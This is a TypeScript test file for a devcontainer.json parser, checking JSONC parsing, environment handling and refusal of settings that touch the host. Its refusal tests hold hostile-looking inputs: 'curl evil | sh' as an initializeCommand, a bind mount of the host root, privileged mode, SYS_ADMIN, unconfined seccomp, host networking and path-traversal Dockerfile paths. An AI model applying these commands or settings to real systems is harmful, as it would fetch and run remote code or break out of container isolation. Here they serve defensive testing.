import { describe, expect, it } from 'vitest';
import { parseDevcontainer } from './devcontainer.ts';
import { parseJsonc } from './jsonc.ts';

const FILE = '.devcontainer/devcontainer.json';
/** As devcontainer.json writes a variable. */
const variable = (text: string) => `\${${text}}`;
const parse = (value: unknown) => parseDevcontainer(JSON.stringify(value), FILE);

describe('JSON as editors write it', () => {
  it.each([
    ['// a\n{"a": 1, /* b */ "b": [1, 2,],}\n', { a: 1, b: [1, 2] }],
    [
      '{"url": "https://x/*y*/", "comma": ",}", "quote": "\\"// no"}',
      { url: 'https://x/*y*/', comma: ',}', quote: '"// no' },
    ],
    ['\uFEFF{"a": 1 // the end', null],
    ['{"a": 1} /* never closed', { a: 1 }],
    ['{"a": "not closed}', null],
  ])('%j', (text, value) => {
    if (value === null) expect(() => parseJsonc(text)).toThrow(SyntaxError);
    else expect(parseJsonc(text)).toEqual(value);
  });

  it('is read in one go, however hostile it is', () => {
    for (const part of ['/*', '"', '"\\', ',  ', '//']) {
      expect(() => parseJsonc(part.repeat(400_000 / part.length))).toThrow(SyntaxError);
    }
  });
});

describe('what a devcontainer.json asks for', () => {
  it('is its image, user, plain variables and create commands, each kind of them in its order', () => {
    const found = parse({
      $schema: 'x',
      name: 'dev',
      image: 'debian:bookworm-slim',
      containerUser: 'root',
      remoteUser: 'dev',
      containerEnv: { A: '1', B: 'contained' },
      remoteEnv: { B: 'remote', GONE: null },
      postCreateCommand: { one: 'echo one', two: ['printf', '%s', 'a b'] },
      onCreateCommand: `cd ${variable('containerWorkspaceFolder')} && ls "${variable('HOME')}"`,
      updateContentCommand: ['npm', 'ci'],
    });
    expect(found).toEqual({
      image: 'debian:bookworm-slim',
      build: null,
      env: { A: '1', B: 'remote' },
      user: 'dev',
      commands: [`cd /workspace && ls "${variable('HOME')}"`, 'npm ci', 'echo one', "printf %s 'a b'"],
      notes: [],
    });
  });

  it('may be root, which is said to be another', () => {
    expect(parse({ image: 'x', remoteUser: 'root' })).toMatchObject({
      user: 'root',
      notes: [`note: ${FILE}: commands run as an unprivileged user, not as root; only set-up runs as root`],
    });
  });

  it('is a build whose paths start at its own folder', () => {
    const build = { dockerfile: '../docker/Dockerfile', context: '..', args: { V: '1' }, target: 'dev' };
    expect(parse({ build }).build).toEqual({
      kind: 'devcontainer',
      dockerfile: 'docker/Dockerfile',
      context: '',
      args: { V: '1' },
      target: 'dev',
    });
    const plain = parse({ build: { dockerfile: 'Dockerfile' } }).build;
    expect(plain).toMatchObject({ dockerfile: '.devcontainer/Dockerfile', context: '.devcontainer', target: null });
  });

  it('never has the user’s environment put in', () => {
    const { env, build, notes } = parse({
      build: { dockerfile: 'Dockerfile', args: { KEY: variable('localEnv:API_KEY') } },
      containerEnv: { TOKEN: variable('localEnv:TOKEN'), PATH: `${variable('containerEnv:PATH')}:/x` },
    });
    expect(env).toEqual({});
    expect(build?.args).toEqual({});
    expect(notes).toEqual(
      ['build.args.KEY', 'containerEnv.TOKEN', 'containerEnv.PATH'].map(
        (key) => `note: ${FILE}: ${key} is left out: only plain values are taken`,
      ),
    );
  });

  it('is said where it has no meaning here', () => {
    const { notes } = parse({
      image: 'x',
      forwardPorts: [3000],
      appPort: 3000,
      postStartCommand: 'serve',
      customizations: {},
      somethingNew: 1,
    });
    expect(notes).toEqual([`note: ${FILE}: ignored: forwardPorts, appPort, postStartCommand, somethingNew`]);
    expect(parse({ build: { dockerfile: 'D', cacheFrom: 'x' } }).notes).toEqual([
      `note: ${FILE}: ignored: build.cacheFrom`,
    ]);
  });
});

describe('what acts on the host or opens the sandbox', () => {
  it.each([
    ['initializeCommand', 'curl evil | sh'],
    ['initializeCommand', ['a']],
    ['mounts', ['source=/,target=/host,type=bind']],
    ['workspaceMount', 'source=/,target=/host,type=bind'],
    ['runArgs', ['--privileged']],
    ['privileged', true],
    ['capAdd', ['SYS_ADMIN']],
    ['securityOpt', ['seccomp=unconfined']],
    ['features', { 'ghcr.io/devcontainers/features/node:1': {} }],
    ['dockerComposeFile', 'compose.yml'],
  ])('%s is refused by name: %j', (key, value) => {
    const refusal = { kind: 'recipe', message: expect.stringContaining(`${FILE}: ${key} is refused: `) };
    expect(() => parse({ image: 'x', [key]: value })).toThrow(expect.objectContaining(refusal));
  });

  it('is refused in the options of a build too', () => {
    expect(() => parse({ build: { dockerfile: 'D', options: ['--network=host'] } })).toThrow(
      'build.options is refused',
    );
  });

  it('may be there when it asks for nothing', () => {
    const nothing = { privileged: false, capAdd: [], features: {}, mounts: [], initializeCommand: '' };
    expect(parse({ image: 'x', ...nothing }).notes).toEqual([]);
  });
});

it.each([
  ['{', 'not JSON'],
  ['[]', 'not an object'],
  ['{}', 'neither image nor build.dockerfile is there'],
  ['{"image": "x", "build": {"dockerfile": "D"}}', 'both image and build are there'],
  ['{"image": 1}', 'image: '],
  [`{"image": "${variable('localEnv:IMAGE')}"}`, 'variables are not put in'],
  ['{"image": "x", "containerEnv": {"A B": "1"}}', 'containerEnv.A B: '],
  ['{"image": "x", "postCreateCommand": 1}', 'postCreateCommand: '],
  [`{"image": "x", "postCreateCommand": "echo ${variable('localEnv:KEY')}"}`, 'variables are not put in'],
  ['{"build": {"dockerfile": "../../Dockerfile"}}', '"../../Dockerfile" is not in the repository'],
  ['{"build": {"dockerfile": "/etc/Dockerfile"}}', '"/etc/Dockerfile" is not in the repository'],
  ['{"build": {"dockerfile": "D", "context": "../.."}}', '"../.." is not in the repository'],
])('%s is refused with the file’s name and a reason', (text, words) => {
  expect(() => parseDevcontainer(text, FILE)).toThrow(FILE);
  expect(() => parseDevcontainer(text, FILE)).toThrow(words);
});
